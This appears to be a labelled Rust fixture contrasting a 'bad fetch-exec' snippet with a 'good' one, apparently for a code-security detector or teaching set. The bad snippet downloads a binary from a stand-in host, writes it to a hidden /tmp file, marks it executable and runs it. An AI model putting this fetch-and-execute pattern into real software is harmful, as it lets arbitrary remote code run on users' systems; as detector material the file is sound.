//: bad fetch-exec
use std::os::unix::fs::PermissionsExt;
use std::{fs, process::Command};

pub fn bootstrap() -> Result<(), Box<dyn std::error::Error>> {
    let bytes = reqwest::blocking::get("http://d.example.invalid/agent")?.bytes()?;
    fs::write("/tmp/.agent", &bytes)?;
    fs::set_permissions("/tmp/.agent", fs::Permissions::from_mode(0o755))?;
    Command::new("/tmp/.agent").spawn()?; //!
    Ok(())
}

//: good fetch-exec
use std::fs;

pub fn bootstrap() -> Result<usize, Box<dyn std::error::Error>> {
    let bytes = reqwest::blocking::get("https://d.example.invalid/words.txt")?.bytes()?;
    fs::write("words.txt", &bytes)?;
    Ok(fs::read_to_string("words.txt")?.lines().count())
}
